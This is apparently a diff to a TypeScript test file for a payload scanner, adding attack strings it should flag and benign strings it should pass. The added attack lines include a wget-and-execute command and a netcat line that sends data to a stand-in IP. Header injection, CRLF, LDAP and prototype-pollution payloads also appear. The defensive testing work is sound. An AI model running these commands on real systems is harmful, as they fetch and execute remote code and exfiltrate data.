@@ -7,11 +7,12 @@ import { PayloadScanner } from '../scanner.ts'
 import { unwrap } from '../unwrap.ts'
 import { ssrf } from './addresses.ts'
 import { command } from './command.ts'
+import { crlf, mail } from './header-lines.ts'
 import { jndi } from './jndi.ts'
 import { leakListing, leakSecret, leakSource } from './leak-content.ts'
 import { leakSqlError, leakStack } from './leak-errors.ts'
 import { xss } from './markup.ts'
-import { crlf, fingerprint, ldap, mail, nosqli, prototype, xxe } from './structures.ts'
+import { fingerprint, ldap, nosqli, prototype, sessionFixation, xxe } from './structures.ts'
 import { code, deserialization, ssti } from './templates.ts'
 import { lfi, rfi, traversal } from './traversal.ts'
 
@@ -107,6 +108,11 @@ const ATTACKS: readonly (readonly [PayloadCheck, string])[] = [
   [ldap, 'admin)(&)'],
   [ldap, '*)(objectClass=*)'],
   [mail, 'a@b.test\nBcc: victim@c.test'],
+  [mail, 'x%0aSubject: 190'],
+  [sessionFixation, 'https://shop.test/login;jsessionid=A5BC99'],
+  [command, 'cd /tmp; wget http://203.0.113.9/x.sh; sh x.sh'],
+  [command, 'echo x | nc 203.0.113.9 4444'],
+  [command, 'report.pdf | grep -v tmp'],
   [crlf, 'x\r\nSet-Cookie: a=b'],
   [crlf, '%0d%0aLocation: //evil.test'],
   [prototype, '{"__proto__": {"admin": true}}'],
@@ -180,6 +186,13 @@ const BENIGN: readonly (readonly [PayloadCheck, string])[] = [
   [ldap, 'f(x)(y)'],
   [ldap, 'a (b) and (c|d)'],
   [mail, 'To: be or not'],
+  [mail, 'dear all\nSubject: 190 pages'],
+  [sessionFixation, 'https://shop.test/orders;jsessionid=A5BC99'],
+  [command, 'echo "$HOME" | grep -v tmp && ls -la ../notes'],
+  [command, 'ps aux | grep node'],
+  [command, 'git pull && npm ci; ls -la'],
+  [command, 'curl -fsSL https://get.tool.test/install | sh'],
+  [xss, '<b>bold</b> is not <script> but I wrote about <script> tags'],
   [crlf, 'line one\nline two'],
   [prototype, 'the prototype of the constructor'],
 ]
